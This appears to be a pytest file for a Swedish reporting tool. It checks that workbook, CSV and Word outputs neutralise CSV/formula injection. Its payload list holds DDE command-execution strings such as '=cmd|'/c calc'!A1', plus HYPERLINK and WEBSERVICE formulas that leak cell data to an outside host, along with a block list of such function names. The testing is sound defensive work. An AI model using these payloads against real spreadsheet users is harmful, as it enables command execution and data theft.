"""No text of anybody's becomes a formula, in whatever we write: every payload that is known, in
every field that reaches a workbook, a csv or a document."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date

import docx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from schemas.content import WorkbookContent
from schemas.edition import Edition, Input
from schemas.findings import Finding, Severity, UnitState
from schemas.inert import would_run
from schemas.revision import RevisionList, RevisionRow
from schemas.tables import Figure, Flag, PrintedRow, Table
from tasks.annotate.annotate import annotate
from tasks.publish.sheets.tidy import tidy_csv
from tasks.publish.sheets.workbook import tables_workbook
from tasks.publish.word.revision import revision_document
from tasks.template.form import write_form
from tasks.template.workbook import write_workbook
from tasks.validate.causes import CauseGroup, by_cause
from tests.builders import Builder, decision, workbook
from tests.data.submissions import LAYOUT, Q4, STOCKHOLM

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "|calc", "%0A=1",
    "=cmd|'/c calc'!A1", "@cmd|'/c calc'!A1", "+cmd|'/c calc'!A1",
    '=DDE("cmd","/c calc","x")',
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
    '=HYPERLINK("http://example.org?"&A1,"Klicka")', '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")', '=IMAGE("http://example.org/x.png")',
    "=IFERROR(1/0,1)", "={1,2}", "==1", "=-1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
    "\u22121+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", '";=1+1', '",=1+1',
    "text\n=1+1", "text\r\n=1+1",
)  # fmt: skip
RUNS = PAYLOADS[:32]
"""Those that begin as a formula; the others hide one behind a separator or a new line."""

every_payload = pytest.mark.parametrize("text", PAYLOADS, ids=ascii)


def formulas(book: Workbook) -> list[tuple[str, str, object]]:
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def quoted(book: Workbook, text: str) -> list[bool]:
    """Of each cell that holds the text, whether it stays a text when somebody edits it."""
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    return [bool(cell.quotePrefix) for cell in cells if cell.value == text]


def opened(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def table(text: str) -> Table:
    figure = Figure(1, text, text, text, text, text, Q4, 1, Flag.NONE)
    return Table(
        number=1, lag="LSS", title=text, headings=(text,), columns=(text, text),
        rows=(PrintedRow((text,), (1, 2)),), notes=(text,), figures=(figure,),
        column_codes=("a", "b"),
    )  # fmt: skip


def edition(text: str) -> Edition:
    inputs = (Input("vik", text, UnitState.QUARANTINED, 1, text, "a" * 64, 1),)
    return Edition(text, text, Q4, inputs, text, text, sources=(text,), breaks=(text,))


@pytest.mark.parametrize("text", RUNS, ids=ascii)
def test_what_begins_as_a_formula_is_known(text: str) -> None:
    assert would_run(text)


@pytest.mark.parametrize(
    "text", ["Boendestöd", "3–6 månader", "– uppgift saknas", "(inte känt)", "", "Ö", "1.3.1", "•"]
)
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert not would_run(text)


@every_payload
def test_tables_as_a_workbook(text: str) -> None:
    book = opened(tables_workbook(edition(text), [table(text)], [replace(table(text), mark="A")]))
    assert formulas(book) == []
    if text in RUNS:
        assert quoted(book, text).count(False) == 0


@every_payload
def test_tables_as_csv(text: str) -> None:
    """Also for a program that opens it with another separator than it was written with."""
    written = tidy_csv([table(text)]).decode()
    (_, line) = csv.reader(io.StringIO(written, newline=""))
    assert len(line) == 9
    assert [field for field in line if would_run(field)] == []
    others = (part.lstrip('"') for part in re.split(r"[;\t\n]", written))
    assert [part for part in others if would_run(part)] == []


@given(
    st.text(alphabet=st.sampled_from("=+-@|\t\r\n \u00a0\u200b\uff1d\u2212a1(\"',;"), max_size=8)
)
def test_no_field_of_a_csv_runs(text: str) -> None:
    (_, *lines) = csv.reader(io.StringIO(tidy_csv([table(text)]).decode(), newline=""))
    assert [cell for line in lines for cell in line if would_run(cell)] == []


def _told(text: str) -> tuple[CauseGroup, ...]:
    found = Finding(
        "KOD-303", Severity.FEL, Q4, "farsta", text, text, sheet="LSS", cell="B3", found=text,
        expected=text, subject=text,
    )  # fmt: skip
    elsewhere = replace(found, sheet=text, cell="A1")
    return by_cause([found, elsewhere])


def _filled(text: str) -> Builder:
    book = workbook()
    places = (("Försättsblad", "B8"), ("Beslut", "A2"), ("Beslut", "R2"), ("LSS", "H3"))
    for sheet, cell in places:
        book.set(sheet, cell, text)
        book[sheet][cell].data_type = "s"
    return book


@every_payload
def test_the_annotated_copy(text: str) -> None:
    book = opened(annotate(_filled(text).bytes(), _told(text), text))
    assert formulas(book) == []
    assert _leaving(book) == []
    if text in RUNS:
        assert quoted(opened(annotate(None, _told(text), text)), text).count(False) == 0


@every_payload
def test_a_formula_of_the_sender_is_not_passed_on(text: str) -> None:
    """What only counts is; what could call an address, a program or another file is not."""
    book = workbook().set("LSS", "H3", text).set("LSS", "H4", "=SUM(B3:D3)+1")
    book["LSS"]["H5"].hyperlink = "http://example.org/"
    copy = opened(annotate(book.bytes(), _told(text), "rapport.xlsx"))
    told = {value for _, _, value in formulas(copy)}
    assert "=SUM(B3:D3)+1" in told
    assert [each for each in told if any(sign in str(each) for sign in "|[")] == []
    called = ("HYPERLINK", "WEBSERVICE", "IMPORTXML", "IMAGE", "DDE", "CMD")
    assert [each for each in told if any(name in str(each).upper() for name in called)] == []
    assert _leaving(copy) == []


def _leaving(book: Workbook) -> list[str]:
    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    links = (cell.hyperlink.target for cell in cells if cell.hyperlink)
    return [target for target in links if target]


@pytest.fixture(scope="module")
def sums() -> set[tuple[str, str]]:
    """The cells of the form that are formulas: its own sums."""
    form = write_form(WorkbookContent("Farsta", Q4, "Stockholm"), LAYOUT, STOCKHOLM.at(Q4))
    return {(sheet, cell) for sheet, cell, _ in formulas(opened(form))}


@every_payload
def test_the_form_that_is_sent_out_prefilled(text: str, sums: set[tuple[str, str]]) -> None:
    rows = (decision(text, undertyp=text, delorsak=text, kommentar=text, personnyckel=text),)
    content = WorkbookContent(
        text, Q4, text, kontakt=text, kommentar=text, decisions=rows, upprattad=date(2025, 1, 2)
    )
    for write in (write_workbook, write_form):
        book = opened(write(content, LAYOUT, STOCKHOLM.at(Q4)))
        assert [each for each in formulas(book) if each[:2] not in sums] == []
        if text in RUNS:
            assert quoted(book, text).count(False) == 0


@every_payload
def test_the_list_for_the_revisorer(text: str) -> None:
    row = RevisionRow(
        lag="LSS", lagrum=text, insats=text, beslutsdatum=date(2024, 1, 2), avbrottsdatum=None,
        orsak=text, rapporttyp=text, status=text, ended=None, waited=3,
    )  # fmt: skip
    data = revision_document(edition(text), RevisionList((row,), ()), date(2025, 3, 17))
    docx.Document(io.BytesIO(data))
    assert [
        each for each in _fields(data) if not each.strip().startswith(("PAGE", "NUMPAGES"))
    ] == []
    assert b'TargetMode="External"' not in b"".join(_parts(data))


def _fields(data: bytes) -> Iterator[str]:
    """What Word would work out: the instructions of fields."""
    from lxml import etree

    for part in _parts(data):
        if b"instrText" in part or b"fldSimple" in part:
            for each in etree.fromstring(part).iter("{*}instrText", "{*}fldSimple"):
                yield each.text or each.get(f"{{{each.nsmap['w']}}}instr", "")


def _parts(data: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return [packed.read(name) for name in packed.namelist()]
